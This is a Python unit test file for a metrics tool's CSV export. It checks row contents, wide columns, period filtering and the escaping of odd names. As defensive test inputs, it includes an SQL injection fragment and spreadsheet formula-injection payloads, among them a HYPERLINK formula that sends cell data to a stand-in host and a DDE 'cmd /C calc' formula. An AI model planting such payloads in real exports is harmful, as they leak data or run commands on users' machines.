import csv
import io

from plimsoll.export.parquet_parts import periods_to_export
from plimsoll.export.text_forms import write_csv
from plimsoll.record.run.run_directory import RunDirectory
from tests.unit.export.exported_run import BEGIN_MS, Row, write_metrics


def table(
    run: RunDirectory, periods: list[str] | None = None, *, wide: bool = False
) -> list[dict[str, str]]:
    file = io.StringIO(newline="")
    written = write_csv(file, run, periods_to_export(run, periods), wide=wide)
    rows = list(csv.DictReader(io.StringIO(file.getvalue(), newline="")))
    assert len(rows) == written
    return rows


def test_a_line_is_a_row_of_the_record(run: RunDirectory) -> None:
    rows = table(run)
    assert len(rows) == 14
    assert next(row for row in rows if row["begin_ms"] == str(BEGIN_MS + 1000)) == {
        "period": "trial-0001",
        "source": "trafficgen",
        "type": "rx-pps",
        "class": "throughput",
        "unit": "pps",
        "aggregation": "sum",
        "names": '{"port_pair": "0:1", "rx_port": "0", "tx_port": "1"}',
        "begin_ms": str(BEGIN_MS + 1000),
        "end_ms": str(BEGIN_MS + 2000),
        "monotonic_ms": "2077",
        "count": "1900",
        "value": "1900.0",
    }


def test_zero_is_written_and_what_is_not_known_is_empty(run: RunDirectory) -> None:
    (row,) = [row for row in table(run, ["trial-0002"]) if row["source"] == "mpstat"]
    assert (row["value"], row["count"]) == ("0.0", "")


def test_wide_gives_each_name_a_column(run: RunDirectory) -> None:
    rows = table(run, wide=True)
    names = [column for column in rows[0] if column.startswith("name.")]
    assert names == [
        f"name.{name}"
        for name in ("cstype", "hostname", "num", "port_pair", "rx_port", "tx_port", "type")
    ]
    cells = {tuple(row[name] for name in names) for row in rows}
    assert cells == {
        ("profiler", "dut", "3", "", "", "", "idle"),
        ("", "", "", "0:1", "0", "1", ""),
        ("", "", "", "0:1", "1", "0", ""),
    }
    # The type of the metric is another column than the name of its series.
    assert {row["type"] for row in rows} == {"rx-pps", "NonBusy-CPU"}


def test_only_the_periods_requested(run: RunDirectory) -> None:
    assert {row["period"] for row in table(run, ["trial-0002"])} == {"trial-0002"}


def test_whatever_is_in_a_name_stays_in_its_cell(run: RunDirectory) -> None:
    odd = {'a"b,c': 'x\r\n"y",\'; DROP TABLE rows; --'}
    write_metrics(run, "trial-0002@odd", [Row("s", "t", odd, 0, 1000, 1.5)], period="trial-0002")
    (row,) = [row for row in table(run, wide=True) if row["source"] == "s"]
    assert row['name.a"b,c'] == odd['a"b,c']
    assert row["value"] == "1.5"


FORMULAS = ('=HYPERLINK("http://x/"&A1,"dut")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1")


def test_a_name_that_a_spreadsheet_would_compute_is_text(run: RunDirectory) -> None:
    rows = [
        Row("mpstat", "Busy-CPU", {"hostname": name, "num": "-1"}, 0, 1000, 1.0)
        for name in FORMULAS
    ]
    write_metrics(run, "trial-0002@evil", rows, period="trial-0002")
    table_of_names = table(run, ["trial-0002"], wide=True)
    found = {row["name.hostname"] for row in table_of_names if row["type"] == "Busy-CPU"}
    assert found == {f"'{name}" for name in FORMULAS}
    # A number is no formula.
    assert {row["name.num"] for row in table_of_names if row["type"] == "Busy-CPU"} == {"-1"}


def test_a_period_that_looks_like_a_formula_is_text_also_without_wide(run: RunDirectory) -> None:
    rows = [Row("=1+1", "-a", {}, 0, 1000, 1.0)]
    write_metrics(run, "trial-0002@evil", rows, period="trial-0002")
    (found,) = [row for row in table(run, ["trial-0002"]) if row["source"].endswith("=1+1")]
    assert (found["source"], found["type"]) == ("'=1+1", "'-a")
